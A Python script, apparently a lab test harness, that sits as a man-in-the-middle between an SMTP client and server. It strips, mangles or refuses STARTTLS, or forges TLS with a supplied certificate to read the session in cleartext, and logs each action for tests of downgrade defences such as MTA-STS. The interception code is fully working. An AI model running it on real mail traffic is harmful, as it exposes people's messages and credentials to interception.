#!/usr/bin/python3
"""On-path SMTP attacker for the test lab.

A TCP relay that sits between an SMTP client and a real server and
attacks STARTTLS the way a network adversary can (RFC 3207 section 6,
RFC 8461 section 1: the downgrade MTA-STS exists to stop):

  pass    relay unchanged (a control)
  mangle  rewrite "STARTTLS" in the server's EHLO reply to "XXXXXXXA",
          the classic in-the-wild stripping that keeps lengths intact
  drop    remove the STARTTLS line from the EHLO reply
  refuse  let the server advertise STARTTLS, but answer the client's
          STARTTLS itself with "454 4.7.0 TLS not available"
  forge   always advertise STARTTLS, terminate the client's TLS with the
          certificate given here (self-signed or for the wrong name) and
          relay the decrypted session to the server in cleartext

Each decision is logged to stderr as one "event=... key=value" line, so a
test can check what the attacker did.
"""

import argparse
import asyncio
import logging
import re
import signal
import ssl
import sys

log = logging.getLogger("strip_proxy")
LINE_LIMIT = 65536


async def read_reply(reader):
    """Read one (possibly multi-line) SMTP reply; [] on EOF."""
    lines = []
    while True:
        line = await reader.readline()
        if not line:
            return lines
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            return lines


def is_ehlo_reply(lines):
    return len(lines) > 1 and lines[0].startswith(b"250")


def is_starttls_line(line):
    return line[4:].strip().upper() == b"STARTTLS"


def fix_continuations(lines):
    """Re-mark a multi-line reply: '250-' on all but the last line."""
    out = []
    for i, line in enumerate(lines):
        sep = b" " if i == len(lines) - 1 else b"-"
        out.append(line[:3] + sep + line[4:])
    return out


async def pipe(reader, writer):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(data)
            await writer.drain()
    except (ConnectionError, OSError, asyncio.IncompleteReadError):
        pass
    finally:
        try:
            writer.close()
        except Exception:
            pass


class Session:
    def __init__(self, args, ctx, cr, cw, ur, uw):
        self.args = args
        self.ctx = ctx
        self.cr, self.cw, self.ur, self.uw = cr, cw, ur, uw
        self.peer = cw.get_extra_info("peername")
        self.starttls_pending = False
        self.client_tls = False
        self.raw = asyncio.Event()

    def event(self, name, **kv):
        extra = "".join(" %s=%s" % (k, v) for k, v in kv.items())
        log.info("event=%s mode=%s peer=%s%s", name, self.args.mode,
                 self.peer[0] if self.peer else "-", extra)

    def transform(self, lines):
        mode = self.args.mode
        if not is_ehlo_reply(lines):
            return lines
        if mode == "mangle":
            out = [re.sub(rb"(?i)starttls", b"XXXXXXXA", line)
                   if line.startswith(b"250") else line for line in lines]
            if out != lines:
                self.event("mangled")
            return out
        if mode == "drop":
            out = [line for line in lines if not is_starttls_line(line)]
            if len(out) != len(lines):
                self.event("dropped")
            return fix_continuations(out)
        if mode == "forge":
            has = any(is_starttls_line(line) for line in lines)
            if self.client_tls and has:
                # Inside our TLS the client must not see a second offer.
                return fix_continuations(
                    [line for line in lines if not is_starttls_line(line)])
            if not self.client_tls and not has:
                self.event("injected")
                return fix_continuations(
                    lines[:-1] + [b"250-STARTTLS\r\n", lines[-1]])
        return lines

    async def server_to_client(self):
        try:
            while not self.raw.is_set():
                lines = await read_reply(self.ur)
                if not lines:
                    break
                if self.starttls_pending:
                    self.starttls_pending = False
                    if lines[0].startswith(b"220"):
                        # The real server and the client now talk TLS
                        # end to end: nothing left for us to read.
                        self.cw.write(b"".join(lines))
                        await self.cw.drain()
                        self.event("passthrough-tls")
                        self.raw.set()
                        break
                lines = self.transform(lines)
                self.cw.write(b"".join(lines))
                await self.cw.drain()
            if self.raw.is_set():
                await pipe(self.ur, self.cw)
        except (ConnectionError, OSError, ValueError,
                asyncio.LimitOverrunError, asyncio.IncompleteReadError):
            pass
        finally:
            self.cw.close()

    async def client_to_server(self):
        try:
            while True:
                line = await self.cr.readline()
                if not line:
                    break
                cmd = line.strip().upper()
                if cmd == b"STARTTLS" and not self.client_tls:
                    if self.args.mode == "refuse":
                        self.event("refused")
                        self.cw.write(b"454 4.7.0 TLS not available\r\n")
                        await self.cw.drain()
                        continue
                    if self.args.mode == "forge":
                        await self.forge_tls()
                        continue
                    self.starttls_pending = True
                    self.uw.write(line)
                    await self.uw.drain()
                    await pipe(self.cr, self.uw)
                    return
                self.uw.write(line)
                await self.uw.drain()
        except (ConnectionError, OSError, ValueError,
                asyncio.LimitOverrunError, ssl.SSLError):
            pass
        finally:
            self.uw.close()

    async def forge_tls(self):
        self.cw.write(b"220 2.0.0 Ready to start TLS\r\n")
        await self.cw.drain()
        try:
            await self.cw.start_tls(self.ctx, ssl_handshake_timeout=10)
        except (ssl.SSLError, ConnectionError, OSError,
                asyncio.TimeoutError) as e:
            self.event("forge-handshake-failed",
                       error=repr(str(e)).replace(" ", "_"))
            raise ConnectionError("handshake failed")
        obj = self.cw.get_extra_info("ssl_object")
        self.client_tls = True
        self.event("forge-handshake-ok",
                   version=obj.version() if obj else "-",
                   sni=getattr(obj, "lab_sni", None) or "-")


def sni_callback(obj, name, ctx):
    try:
        obj.lab_sni = name
    except AttributeError:
        pass
    return None


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--listen", required=True,
                    help="comma-separated addresses to listen on")
    ap.add_argument("--port", type=int, default=25)
    ap.add_argument("--upstream", required=True, help="server address")
    ap.add_argument("--upstream-port", type=int, default=25)
    ap.add_argument("--mode", required=True,
                    choices=["pass", "mangle", "drop", "refuse", "forge"])
    ap.add_argument("--cert", help="forged certificate (forge mode)")
    ap.add_argument("--key", help="its key (forge mode)")
    args = ap.parse_args()

    logging.basicConfig(stream=sys.stderr, level=logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    ctx = None
    if args.mode == "forge":
        if not args.cert or not args.key:
            ap.error("forge mode needs --cert and --key")
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.sni_callback = sni_callback

    async def handle(cr, cw):
        peer = cw.get_extra_info("peername")
        try:
            ur, uw = await asyncio.open_connection(
                args.upstream, args.upstream_port, limit=LINE_LIMIT)
        except OSError as e:
            log.info("event=upstream-failed mode=%s peer=%s error=%s",
                     args.mode, peer[0] if peer else "-", e.errno)
            cw.close()
            return
        s = Session(args, ctx, cr, cw, ur, uw)
        s.event("connect", upstream="%s:%d" % (args.upstream,
                                               args.upstream_port))
        if args.mode == "pass":
            await asyncio.gather(pipe(cr, uw), pipe(ur, cw))
        else:
            await asyncio.gather(s.client_to_server(),
                                 s.server_to_client())
        s.event("close")

    async def serve():
        loop = asyncio.get_running_loop()
        hosts = [h for h in args.listen.split(",") if h]
        server = await asyncio.start_server(handle, host=hosts,
                                            port=args.port,
                                            limit=LINE_LIMIT)
        stop = loop.create_future()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(
                sig, lambda: stop.done() or stop.set_result(None))
        log.info("event=listening mode=%s listen=%s port=%d upstream=%s:%d",
                 args.mode, args.listen, args.port, args.upstream,
                 args.upstream_port)
        await stop
        server.close()

    asyncio.run(serve())


if __name__ == "__main__":
    main()
